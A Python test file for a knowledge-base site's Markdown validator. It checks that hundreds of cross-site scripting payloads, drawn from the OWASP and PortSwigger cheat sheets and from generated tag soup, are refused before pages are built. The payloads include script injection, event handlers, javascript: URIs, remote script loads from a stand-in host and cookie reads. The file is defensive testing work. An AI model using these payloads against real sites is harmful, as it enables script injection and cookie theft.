"""Raw HTML and addresses in entries are read as a browser reads them, and validation
refuses whatever the built pages' check (HP702) would refuse: a corpus of cross-site
scripting payloads (after the OWASP filter evasion cheat sheet and PortSwigger's XSS
cheat sheet) placed in a paragraph, inline, in a list item and in a link, and tag soup
from Hypothesis; for each, if validation passes, the body rendered with the site's
Markdown passes HP702."""

from __future__ import annotations

import itertools
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hpkb.check.findings import Severity
from hpkb.check.html_tokens import Tag, markup
from hpkb.content.body import body_findings
from hpkb.outputs.site.html_check import check_html
from tests.conftest import AS_OF, run_cli
from tests.test_hostile_markdown import site_markdown

LEARNING = "content/learning/LN-2024-001.md"

# Payloads written out from the public lists' vectors (script and event-handler tags,
# obfuscated schemes, broken markup, encodings), and Markdown's own ways to a link or an
# image. Each is tried in every placement below.
PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<script/src=//xss.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<SCRIPT a=\">\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script\x20type=\"text/javascript\">javascript:alert(1);</script>",
    "<script\x0btype=text/javascript>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    # images and their events
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<img/src/onerror=alert(1)>",
    "<img src=\"x\"/onerror=alert(1)>",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x onError=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x\x0bonerror=alert(1)>",
    "<img src=x\xa0onerror=alert(1)>",
    "<img src=x\u2028onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x onerror==alert(1)>",
    "<img src=x =onerror=alert(1)>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
    "<img src=\"https://xss.example/pixel.png\">",
    "<img src=\"//xss.example/pixel.png\">",
    "<img src=\"\\\\xss.example\\pixel.png\">",
    "<img src=\"../../../etc/passwd\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x\nonerror=alert(1)\n>",
    # svg, math and other foreign content
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICKME</maction></math>",
    # document and frame elements
    "<body onload=alert(1)>",
    "<BODY ONLOAD=alert('XSS')>",
    "<body/onload=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<iframe src=javascript:alert(1)>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<object data=javascript:alert(1)>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" "
    "type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<applet code=x onload=alert(1)>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
    "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<link rel=import href=\"http://xss.example/x.html\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    # forms and inputs
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<label for=x onclick=alert(1)>x</label>",
    # media
    "<video><source onerror=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<video/poster/onerror=alert(1)>",
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=x onerror=alert(1)>",
    "<audio controls autoplay onplay=alert(1)><source src=x.mp3></audio>",
    # allowed elements with what they may not carry
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"livescript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"tel:999\">call</a>",
    "<a href=\"ftp://xss.example/x\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a/href=\"javascript:alert(1)\">x</a>",
    "<a href=\"javascript:void(0)\" onmouseover=alert(1)>x</a>",
    "<a href=\"#\"onclick=\"alert(1)\">x</a>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a target=_blank href=\"https://xss.example\">x</a>",
    "<a ping=https://xss.example href=#>x</a>",
    "<h1/onclick=alert(1)>x</h1>",
    "<div/onmouseover=alert(1)>x</div>",
    "<div style=\"background-image: url(javascript:alert('XSS'))\">",
    "<div style=\"width: expression(alert('XSS'));\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053"
    "\\0053\\0027\\0029'\\0029\">",
    "<span style=\"x:expression(alert(1))\">x</span>",
    "<details open ontoggle=alert(1)>",
    "<details/open/ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<div id=x tabindex=1 onfocus=alert(1)></div>",
    "<abbr title=\"x\" onmouseover=alert(1)>x</abbr>",
    "<x onclick=alert(1)>click",
    "<p class=\"x\" onclick=\"alert(1)\">x</p>",
    "<span id=hpkb-search>x</span>",
    "<div markdown=\"1\">*x*</div>",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "<html onmouseover=alert(1)>",
    "<article onclick=alert(1)>",
    "</article><svg onload=alert(1)>",
    "</article><script>alert(1)</script>",
    # broken and split markup
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\"/><img/onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<a title=\"<script>alert(1)</script>\">x</a>",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<b title=\"x",
    "<img src=x onerror=alert(1)",
    "<img src=\"x\" onerror=\"alert(1)",
    "<<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<a\nhref=\"javascript:alert(1)\">x</a>",
    "<img\n\nsrc=x onerror=alert(1)>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<s\u0441ript>alert(1)</s\u0441ript>",
    "<\u212Abd onclick=alert(1)>x</\u212Abd>",
    # comments, declarations, processing instructions
    "<!-- <script>alert(1)</script> -->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[x><script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<!x><img src=x onerror=alert(1)>",
    "</ script><script>alert(1)</script>",
    "</x onclick=alert(1)>",
    "<!DOCTYPE html>",
    "</>",
    # text that only looks dangerous (published as text, or harmless)
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "1 < 2 and 3 > 2",
    "a <3 b",
    # Markdown links, images, references and autolinks
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://%0aalert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript:alert(1) \"title\")",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](tel:999)",
    "[x](file:///etc/passwd)",
    "[x](ftp://xss.example)",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](jav\\ascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](http://a \"t\" onclick=\"alert(1))",
    "[x](http://a\" onclick=\"alert(1))",
    "[a](#\"onclick=\"alert(1))",
    "[x](https://example.org \"<script>alert(1)</script>\")",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[x](https://example.org)<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](http://xss.example/p.png)",
    "![x](//xss.example/p.png)",
    "![x](\\\\xss.example\\p.png)",
    "![x](../../etc/passwd)",
    "![x](/etc/passwd)",
    "![a [b]](http://xss.example/p.png)",
    "![a [b] c](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![<img src=x onerror=alert(1)>](map.png)",
    "![x](map.png \"\\\" onerror=\\\"alert(1)\")",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: tel:999",
    "![x][r]\n\n[r]: http://xss.example/p.png",
    "![r]\n\n[r]: //xss.example/p.png",
    "[x][r]\n\n[r]:\n  javascript:alert(1)",
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    "<vbscript://x>",
    "<ftp://xss.example>",
    "<data://text/html,x>",
    "*<img src=x onerror=alert(1)>*",
    "**<script>alert(1)</script>**",
    "`x` <img src=x onerror=alert(1)>",
    # Markdown code that is code (kept) and code that is not (refused)
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>```",
    "`a\n<img src=x onerror=alert(1)>`",
    "```\n<script>alert(1)</script>\n```",
    "```js x\n<script>alert(1)</script>\n```",
    "   ```\n<script>alert(1)</script>\n   ```",
    "````\n<script>alert(1)</script>\n`````",
    "~~~\n<script>alert(1)</script>\n~~~",
    "```{=html}\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "<div>\n`<script>alert(1)</script>`\n</div>",
    "<div>\n```\n<script>alert(1)</script>\n```\n</div>",
    "<details><summary>x</summary>\n`<script>alert(1)</script>`\n</details>",
    "!!! note \"<img src=x onerror=alert(1)>\"\n    x",
    "!!! note onclick\n    x",
    "# <img src=x onerror=alert(1)>",
    "x\n===\n<img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "{ onclick=\"alert(1)\" }",
    "# Heading { onclick=alert(1) }",
]

# Generated on top: each event handler on each kind of tag, with each separator a browser
# or Python's parser reads as one.
TAGS = ["a", "img", "div", "span", "h2", "abbr", "details", "p", "b", "svg", "body", "x"]
HANDLERS = ["onclick", "onerror", "onload", "onmouseover", "onfocus", "ontoggle",
            "onpointerenter", "onanimationstart", "onbeforeprint", "ONCLICK"]
SEPARATORS = [" ", "/", "\t", "\n", "\x0c", "\x0b", "\xa0", "/ /", "\" \"", "'"]
PAYLOADS += [f"<{tag}{separator}{handler}=alert(1)>x"
             for tag, handler, separator in zip(itertools.cycle(TAGS), HANDLERS * 3,
                                                SEPARATORS * 3, strict=False)]
PAYLOADS += [f"<{tag} title=\"a\"{separator}{handler}=\"alert(1)\">x</{tag}>"
             for tag, (handler, separator) in zip(
                 itertools.cycle(TAGS), itertools.product(HANDLERS[:5], SEPARATORS[:8]),
                 strict=False)]

# Benign HTML and Markdown an entry may hold: none is refused.
BENIGN = [
    "<abbr title=\"Multi-Agency Risk Assessment Conference\">MARAC</abbr>",
    "<kbd>Ctrl</kbd> and <sub>2</sub> and <sup>3</sup>",
    "<a href=\"https://www.college.police.uk/\">College of Policing</a>",
    "<a href=\"mailto:team@example.org\">e-mail the team</a>",
    "<img src=\"map.png\" alt=\"Map\">",
    "<br>",
    "<span class=\"note\" title=\"x\" data-x=\"1\" aria-label=\"y\">x</span>",
    "<https://www.gov.uk/> and <team@example.org>",
    "Write `<script>` in code, and `<img onerror=x>` too.",
    "```\n<script>alert(1)</script>\n```",
    "[the guidance](https://www.gov.uk/guidance \"Guidance\") and [a page](guide.md#top)",
    "![map](images/map.png)",
    "1 < 2 and 3 > 2; a <3 b; x&y; &amp; &copy;",
]

PLACEMENTS = {
    "paragraph": "Text before.\n\n{}\n\nText after.",
    "inline": "Text before {} text after.",
    "list item": "- first\n- {}\n- last",
    "link": "See [{}](https://example.org) for more.",
}


def _refused(body: str) -> bool:
    return any(f.severity == Severity.ERROR for f in body_findings("x.md", body, 1))


def _built_page_problems(body: str) -> list[tuple[int, str]]:
    return check_html("<article>\n" + site_markdown(body) + "\n</article>")


def test_the_corpus_is_a_few_hundred_payloads() -> None:
    assert len(PAYLOADS) >= 300
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("placement", sorted(PLACEMENTS))
def test_no_payload_passes_validation_that_the_built_page_check_refuses(placement: str
                                                                        ) -> None:
    passed, let_through = [], []
    for payload in PAYLOADS:
        body = PLACEMENTS[placement].format(payload)
        if _refused(body):
            continue
        passed.append(payload)
        problems = _built_page_problems(body)
        if problems:
            let_through.append((payload, problems))
    assert not let_through, let_through
    # Almost every payload is refused: those left render as text (or as code).
    assert len(passed) < len(PAYLOADS) // 10, passed


@pytest.mark.parametrize("body", BENIGN)
def test_benign_html_passes_validation_and_the_built_page_check(body: str) -> None:
    assert body_findings("x.md", body, 1) == []
    assert _built_page_problems(body) == []


@pytest.mark.parametrize("payload,code,column", [
    ("<h1/onclick=alert(1)>x</h1>", "HP402", 1),
    ("<div/onmouseover=alert(1)>x</div>", "HP402", 1),
    ("<video/poster/onerror=alert(1)>", "HP401", 1),
    ("x \"/><img/onerror=alert(1)>", "HP402", 6),
    ("<body/onload=alert(1)>", "HP401", 1),
    ("<img\nsrc=x\nonerror=alert(1)>", "HP402", 1),
    ("```js x\n<script>alert(1)</script>\n```", "HP401", 1),
    ("<div>\n`<script>alert(1)</script>`\n</div>", "HP401", 2),
    ("[call](tel:999)", "HP403", 8),
    ("![a [b]](http://xss.example/p.png)", "HP408", 8),
    ("<span style=\"color:red\">x</span>", "HP402", 1),
    ("x <b title=\"never closed", "HP401", 3),
])
def test_the_issue_cases_are_refused_where_they_are(payload: str, code: str, column: int
                                                    ) -> None:
    findings = body_findings("x.md", "Text.\n\n" + payload, 1)
    first = [(f.line, f.column) for f in findings if f.code == code]
    line = 3 + payload[:column - 1].count("\n")
    assert first and first[0][0] >= line, findings
    if "\n" not in payload or payload.startswith("<div>\n"):
        assert first[0] == (3 + (1 if payload.startswith("<div>\n") else 0), column), findings


def _tags(text: str) -> list[Tag]:
    found, complete = markup(text, 10_000)
    assert complete
    return [tag for tag in found if isinstance(tag, Tag)]


def test_the_tokenizer_reads_as_a_browser_and_as_pythons_parser() -> None:
    [tag] = _tags("<img/src=\"x\"/onerror=alert(1)>")
    assert tag.name == "img"
    assert [(a.name, a.value) for a in tag.attributes()] == [("src", "x"),
                                                             ("onerror", "alert(1)")]
    browser, python = _tags("<a href=x\xa0onclick=y>")
    assert [a.name for a in browser.attributes()] == ["href"]
    assert [a.name for a in python.attributes()] == ["href", "onclick"]
    # Nothing hides in an attribute's value; an entity in a value is read.
    assert [t.name for t in _tags("<a title=\"<b>\">")] == ["a", "b"]
    [link] = _tags("<a href=\"java&#x09;script&colon;x\">")
    assert [a.value for a in link.attributes()] == ["java\tscript:x"]


# Tag soup: pieces of tags, attributes, values, separators and Markdown, strung together.
SOUP_TAGS = ["a", "img", "b", "div", "span", "abbr", "details", "svg", "script", "iframe",
             "style", "x", "h1", "body", "video", "table", "td", "p", "article", "br"]
SOUP_ATTRIBUTES = ["href", "src", "title", "alt", "class", "id", "onclick", "onerror",
                   "style", "formaction", "srcdoc", "xlink:href", "data-x", "aria-label",
                   "open", "poster", "markdown", "name", "value"]
SOUP_VALUES = ["x", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x09;script:x",
               "&#106;avascript:x", "http://e.example/p.png", "//e.example", "data:text/html,x",
               "x.png", "../../etc/passwd", "mailto:a@b.example", "tel:1",
               "javascript&colon;x", "\x01javascript:x", " javascript:x", "<b>", "'", "\""]
SOUP_SEPARATORS = [" ", "/", "\t", "\n", "\x0b", "\xa0", "\x0c", "", "  ", "\n\n"]
SOUP_PIECES = ["<", ">", "</", "/>", "<!--", "-->", "`", "``", "```\n", "\n```", "[", "](",
               ")", "![", "*", "\n\n", "    ", "> ", "- ", "&lt;", "&", "=", "\"", "'", "<!",
               "<?", "]]>", "<![CDATA[", "text", " ", "\n", "\\"]


@st.composite
def soup_tags(draw: st.DrawFn) -> str:
    tag = "<" + draw(st.sampled_from(SOUP_TAGS))
    for _ in range(draw(st.integers(0, 3))):
        tag += draw(st.sampled_from(SOUP_SEPARATORS)) + draw(st.sampled_from(SOUP_ATTRIBUTES))
        if draw(st.booleans()):
            quote = draw(st.sampled_from(["\"", "'", "", "`"]))
            tag += "=" + quote + draw(st.sampled_from(SOUP_VALUES)) + quote
    return tag + draw(st.sampled_from([">", "/>", "", " >", "\n>"]))


SOUP = st.lists(st.one_of(soup_tags(), st.sampled_from(SOUP_PIECES)), min_size=1,
                max_size=12).map("".join)


@settings(max_examples=400, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow])
@given(soup=SOUP, placement=st.sampled_from(sorted(PLACEMENTS)))
def test_tag_soup_that_passes_validation_passes_the_built_page_check(soup: str,
                                                                     placement: str) -> None:
    body = PLACEMENTS[placement].format(soup)
    if not _refused(body):
        assert _built_page_problems(body) == [], body


def test_hpkb_validate_refuses_a_sample_and_the_build_passes_what_it_lets_through(
        starter: Path) -> None:
    path = starter / LEARNING
    original = path.read_text(encoding="utf-8")
    for payload, code, below in (("<h1/onclick=alert(1)>x</h1>", "HP402", 0),
                                 ("<img\nsrc=x\nonerror=alert(1)>", "HP402", 0),
                                 ("[call](tel:999)", "HP403", 0),
                                 ("```js x\n<script>alert(1)</script>\n```", "HP401", 1)):
        path.write_text(original + "\n" + payload + "\n", encoding="utf-8")
        result = run_cli(starter, "validate", "--format", "json", "--as-of", AS_OF)
        assert result.exit_code == 1, payload
        line = original.count("\n") + 2 + below
        found = [(f["code"], f["line"]) for f in result.json()]
        assert found[0][1] == line and (code, line) in found, (payload, found)
    # (Relative links and images left out: MkDocs refuses those to files that are not there.)
    benign = [body for body in BENIGN if ".md" not in body and ".png" not in body]
    path.write_text(original + "\n" + "\n\n".join(benign) + "\n", encoding="utf-8")
    result = run_cli(starter, "build", "--profile", "internal", "--skip", "packs",
                     "--as-of", AS_OF)
    assert result.exit_code == 0, result.stdout + result.stderr


def test_block_level_elements_are_python_markdowns() -> None:
    from markdown.util import BLOCK_LEVEL_ELEMENTS

    from hpkb.content.body import BLOCK_LEVEL

    assert frozenset(BLOCK_LEVEL_ELEMENTS) == BLOCK_LEVEL


def test_code_spans_hide_html_only_before_a_raw_html_block() -> None:
    assert body_findings("x.md", "`<script>` first.\n\n<details>\n`<script>`\n</details>",
                         1)[0].line == 4
    assert body_findings("x.md", "`<script>` and <https://example.org>.\n\n<abbr>x</abbr>",
                         1) == []
